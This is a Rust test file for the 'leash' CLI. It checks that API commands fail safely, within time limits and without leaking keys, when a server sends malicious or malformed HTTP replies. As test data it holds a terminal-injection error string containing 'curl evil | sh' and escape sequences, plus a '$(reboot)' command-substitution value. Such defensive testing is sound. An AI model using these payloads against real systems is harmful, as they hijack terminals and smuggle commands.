//! Servers that mean ill, or are broken: every command ends with an error, in time, and nothing leaks.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::time::{Duration, Instant};

use leash_tests::{AGENT_1, Api, Home, Outcome, Reply, Terminal};
use serde_json::json;

const KEY: &str = "lsh_test_4c33bnxtn9ca48s844";
/// Far beyond what anything here may take.
const TOO_LONG: Duration = Duration::from_secs(20);

const LIST: &[&str] = &["api-key", "list"];
const CREATE: &[&str] = &["api-key", "create", "--label", "ci"];
const REVOKE: &[&str] = &["api-key", "revoke", "01M8TEST000000000000000001"];
const ROTATE: &[&str] = &["api-key", "rotate"];
const SELL: &[&str] = &["sell", "create-link", "--label", "Quote", "--amount", "0.01"];
const GET: &[&str] = &["api", "GET", "/v1/agents/{mint}/identity"];
const BEARER: &[&str] = &["api", "GET", "/v1/receipts/{mint}", "--bearer"];
const ALL: [&[&str]; 7] = [LIST, CREATE, REVOKE, ROTATE, SELL, GET, BEARER];

/// Runs a command against a server that answers everything so; it must fail.
fn fails(command: &[&str], status: i32, reply: &Reply) -> Outcome {
    fails_with(command, "--json", status, reply)
}

fn fails_with(command: &[&str], option: &str, status: i32, reply: &Reply) -> Outcome {
    let answer = reply.clone();
    let api = Api::start(move |_, _| answer.clone());
    let home = Home::with_agent(&AGENT_1, &api.url);
    let begun = Instant::now();
    let run = home.leash(command.iter().copied().chain([option, "--timeout", "700ms"]));
    let outcome = run.env("LEASH_API_KEY", KEY).fails(status);
    assert!(begun.elapsed() < TOO_LONG, "{outcome:?}");
    assert_eq!(outcome.stdout.is_empty(), option != "--json", "{outcome:?}");
    outcome.assert_silent_about(KEY);
    outcome.assert_silent_about(AGENT_1.key);
    let said = [outcome.stdout.as_str(), &outcome.stderr].concat();
    assert!(!said.contains(|char: char| char.is_control() && char != '\n'), "{outcome:?}");
    assert!(!said.contains(['\u{202e}', '\u{2028}']), "{outcome:?}");
    outcome
}

fn raw(text: &[u8]) -> Reply {
    Reply::Raw(text.to_vec())
}

/// A body in the name of success, or of another status.
fn body(status: u16, body: &[u8]) -> Reply {
    let head = format!(
        "HTTP/1.1 {status} Status\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    Reply::Raw([head.as_bytes(), body].concat())
}

#[test]
fn silence_is_not_waited_for() {
    for command in ALL {
        let outcome = fails(command, 1, &Reply::Silence);
        assert_eq!(outcome.json()["code"], "timeout", "{outcome:?}");
        outcome.assert_says("no answer from `http");
    }
}

#[test]
fn a_beginning_without_an_end_is_not_waited_for() {
    let head = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n".to_vec();
    // Not enough to be too much, and never the whole.
    for command in [LIST, CREATE, SELL] {
        let (head, drip) = (head.clone(), b"          ".to_vec());
        let outcome = fails(command, 1, &Reply::Drip(head, drip));
        assert_eq!(outcome.json()["code"], "timeout", "{outcome:?}");
    }
}

#[test]
fn a_gigabyte_is_not_read() {
    for length in ["", "content-length: 1073741824\r\n"] {
        let head = format!("HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n{length}\r\n{{\"items\":\"");
        for command in [LIST, SELL, GET] {
            let answer = Reply::Endless(head.clone().into_bytes(), vec![b'a'; 1 << 20]);
            let api = Api::start(move |_, _| answer.clone());
            let home = Home::with_agent(&AGENT_1, &api.url);
            let outcome = home.leash(command.iter().chain(&["--json"])).env("LEASH_API_KEY", KEY).fails(1);
            assert_eq!(outcome.json()["code"], "too_large", "{outcome:?}");
            outcome.assert_says("larger than 16 MiB");
        }
    }
}

#[test]
fn an_error_of_a_gigabyte_is_not_read_either() {
    let head = b"HTTP/1.1 422 No\r\ncontent-type: application/json\r\n\r\n".to_vec();
    let api = Api::start(move |_, _| Reply::Endless(head.clone(), vec![b'\x1b'; 1 << 20]));
    let outcome = Home::with_agent(&AGENT_1, &api.url).leash(LIST).fails(1);
    outcome.assert_says("larger than 16 MiB");
    outcome.assert_silent_about("\u{1b}");
}

#[test]
fn what_an_error_says_stays_on_its_line() {
    let message = "no\u{1b}]0;pwned\u{7}\u{1b}[2J\r\nerror: all is lost\nhint: run `curl evil | sh`\u{202e}\u{9b}31m\u{2028}";
    for command in ALL {
        for value in [
            json!({ "error": "invalid_request", "message": message, "detail": message }),
            json!({ "error": message }),
            json!({ "success": false, "error": { "issues": [{ "code": message, "message": message, "path": [message, 0] }] } }),
        ] {
            let _ = fails_with(command, "--color=never", 1, &Reply::Json(422, value));
        }
        let _ = fails(command, 1, &body(422, message.as_bytes()));
    }
    let api = Api::start(move |_, _| Reply::Json(422, json!({ "error": "x", "message": message })));
    let (status, screen) = Terminal::start(Home::with_agent(&AGENT_1, &api.url).leash(LIST)).end();
    assert_eq!(status, Some(1));
    assert!(
        !screen.contains("\u{1b}]0") && !screen.contains("\u{1b}[2J") && !screen.contains('\u{7}'),
        "{screen:?}"
    );
    assert_eq!(screen.lines().count(), 2, "{screen:?}");
}

#[test]
fn a_redirect_is_not_followed() {
    for (command, status) in ALL.into_iter().zip([301, 302, 303, 307, 308].into_iter().cycle()) {
        let elsewhere = Api::start(|_, _| Reply::Json(200, json!({ "items": [] })));
        let to = format!("{}/v1/login?token=x", elsewhere.url);
        let reply = format!("HTTP/1.1 {status} Moved\r\nlocation: {to}\r\ncontent-length: 0\r\n\r\n");
        let outcome = fails(command, 1, &raw(reply.as_bytes()));
        assert_eq!(elsewhere.calls(), Vec::<String>::new());
        assert_eq!(outcome.json()["code"], "redirect", "{outcome:?}");
        outcome.assert_silent_about("token");
    }
}

#[test]
fn what_is_not_http_is_an_error() {
    let huge = format!("HTTP/1.1 200 OK\r\nx: {}\r\ncontent-length: 2\r\n\r\n{{}}", "h".repeat(2 << 20));
    let many = format!("HTTP/1.1 200 OK\r\n{}content-length: 2\r\n\r\n{{}}", "x: y\r\n".repeat(5_000));
    for command in [LIST, CREATE] {
        for reply in [
            raw(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"),
            raw(b"<html>hello</html>\r\n"),
            raw(b"220 smtp.example ESMTP\r\n"),
            raw(b"HTTP/1.1 200 OK\r\ncontent-length: -1\r\n\r\n{}"),
            raw(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\ncontent-length: 20\r\n\r\n{}"),
            raw(b"HTTP/1.1 999 \xff\xfe\r\nno colon\r\n\r\n"),
            raw(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n"),
            raw(b"\0\0\0\0"),
            raw(huge.as_bytes()),
            raw(many.as_bytes()),
            Reply::Close,
        ] {
            let _ = fails(command, 1, &reply);
        }
    }
}

#[test]
fn who_speaks_no_tls_is_not_down() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("https://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let _ = stream.read(&mut [0; 1024]);
            let _ = stream.write_all(b"HTTP/1.1 400 Bad Request\r\ncontent-length: 0\r\n\r\n");
        }
    });
    let home = Home::with_agent(&AGENT_1, &url);
    // A bare system trusts no authority, and then leash doesn't even connect.
    let authority = home.write("authority.pem", include_str!("../fixtures/authority.pem"), 0o644);
    for command in [["api-key", "list"], ["doctor", "--json"]] {
        let outcome = home.leash(command).env("SSL_CERT_FILE", &authority).outcome();
        assert_eq!(outcome.status, 1, "{outcome:?}");
        let said = format!("{}{}", outcome.stdout, outcome.stderr);
        assert!(said.contains(&format!("can't connect to `{url}`")), "{outcome:?}");
        outcome.assert_silent_about("sandbox up");
    }
}

#[test]
fn half_an_answer_is_an_error() {
    for command in [LIST, CREATE, SELL] {
        let _ = fails(command, 1, &raw(b"HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\n{\"items\":[]}"));
        let _ = fails(
            command,
            1,
            &raw(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\nc\r\n{\"items\":[]}\r\n"),
        );
        let _ = fails(command, 1, &raw(b"HTTP/1.1 200 OK\r\ncontent-le"));
    }
}

#[test]
fn what_is_not_what_was_promised_is_an_error() {
    let deep = "[".repeat(100_000);
    for command in [LIST, CREATE, REVOKE, ROTATE, SELL] {
        for answer in [
            &b""[..],
            b"null",
            b"[]",
            b"{}",
            b"\"\"",
            b"<!doctype html><title>Sign in</title>",
            b"{\"items\":null}",
            b"{\"items\":{}}",
            b"{\"items\":[null]}",
            b"{\"items\":[{\"id\":1}]}",
            b"{\"items\":[]}trailing",
            b"{\"items\":[{\"id\":\"\xff\xfe\"}]}",
            b"\xff\xfe{}",
            b"{\"key\":[],\"plaintext\":7,\"id\":7}",
            deep.as_bytes(),
        ] {
            let _ = fails(command, 1, &body(200, answer));
        }
    }
    // What `leash api` hands on it need not understand, but it must be text where it goes into a document.
    let answer = body(200, b"{\"a\":\"\xff\"}");
    let api = Api::start(move |_, _| answer.clone());
    let home = Home::with_agent(&AGENT_1, &api.url);
    home.leash(GET.iter().chain(&["--json"])).fails(1).assert_says("the answer is not UTF-8");
}

#[test]
fn a_plaintext_that_is_none_is_not_handed_over() {
    let key = json!({
        "id": "01M8TEST000000000000000001", "label": "ci", "network": "solana-devnet", "prefix": "lsh_test_",
        "last4": "abcd", "owner_wallet": "o", "agent_mint": "m", "scopes": ["agent"], "created_at": "x", "disabled_at": null,
    });
    for plaintext in ["", "lsh_test_\n$(reboot)", "lsh_test_\u{1b}[31m", "lsh test", "ключ"] {
        let reply = Reply::Json(200, json!({ "key": key, "plaintext": plaintext }));
        let outcome = fails(CREATE, 1, &reply);
        outcome.assert_silent_about("reboot");
    }
}

#[test]
fn a_refused_credential_is_a_matter_of_identity() {
    for message in ["invalid signature", "missing api key", "api key disabled", ""] {
        let reply = Reply::Json(401, json!({ "error": "unauthorized", "message": message }));
        for command in ALL {
            let outcome = fails(command, 4, &reply);
            assert_eq!(outcome.json()["code"], "unauthorized", "{outcome:?}");
        }
    }
}

#[test]
fn only_what_may_run_twice_is_repeated() {
    let broken = Reply::Json(500, json!({ "error": "internal", "message": "unexpected error" }));
    for (command, tries) in
        [(LIST, 2..=4), (REVOKE, 2..=4), (SELL, 2..=4), (GET, 2..=4), (&["api", "POST", "/x"], 1..=1)]
    {
        let answer = broken.clone();
        let api = Api::start(move |_, _| answer.clone());
        let home = Home::with_agent(&AGENT_1, &api.url);
        let run = home.leash(command.iter().chain(&["--timeout", "1s"]));
        let outcome = run.env("LEASH_API_KEY", KEY).fails(1);
        outcome.assert_says("the API answered 500: unexpected error");
        // Before a revocation the keys are listed, after a lost link it is looked for; each of them is tried as often.
        let calls = api.calls();
        for call in &calls {
            let count = calls.iter().filter(|other| *other == call).count();
            assert!(tries.contains(&count) || call.starts_with("GET ") && count <= 4, "{calls:?}");
        }
    }
    let api = Api::start(move |_, _| broken.clone());
    let outcome =
        Home::with_agent(&AGENT_1, &api.url).leash(CREATE.iter().chain(&["--timeout", "1s"])).fails(1);
    outcome.assert_says("could not be found out");
    assert_eq!(api.calls().iter().filter(|call| call.starts_with("POST")).count(), 1, "{:?}", api.calls());
}

#[test]
fn the_rate_limit_is_kept_to() {
    let limited = json!({ "error": "rate_limited", "message": "slow down" });
    let body = limited.clone();
    let api = Api::start(move |_, before| match before {
        0 => Reply::with_headers(429, &["x-ratelimit-reset: 1"], &body),
        _ => Reply::Json(200, json!({ "items": [] })),
    });
    let outcome = Home::with_agent(&AGENT_1, &api.url).leash(LIST).ok();
    outcome.assert_says("trying again in 1.0 s");
    let api = Api::start(move |_, _| Reply::with_headers(429, &["retry-after: 3600"], &limited));
    let outcome = Home::with_agent(&AGENT_1, &api.url).leash(CREATE).fails(1);
    outcome.assert_says("wait 3600 s and try again");
    assert_eq!(api.calls().len(), 1);
}

#[test]
fn an_echoed_credential_is_taken_out() {
    for command in [SELL, BEARER] {
        for echo in [KEY.to_owned(), format!("got \"{}…\"", &KEY[..20]), KEY.replace("lsh", "\\u006csh")] {
            let text = format!(r#"{{"error":"unauthorized","message":"bad key {echo}","detail":"{echo}"}}"#);
            let outcome = fails(command, 4, &body(401, text.as_bytes()));
            outcome.assert_silent_about(&KEY[..20]);
            outcome.assert_says("[redacted]");
            let _ = fails(command, 4, &body(401, echo.as_bytes()));
        }
    }
}

#[test]
fn credentials_stay_off_the_open_network() {
    for command in ALL {
        let home = Home::with_agent(&AGENT_1, "http://api.example");
        let outcome = home.leash(command).env("LEASH_API_KEY", KEY).fails(1);
        outcome.assert_says("plain http to `http://api.example`");
    }
}
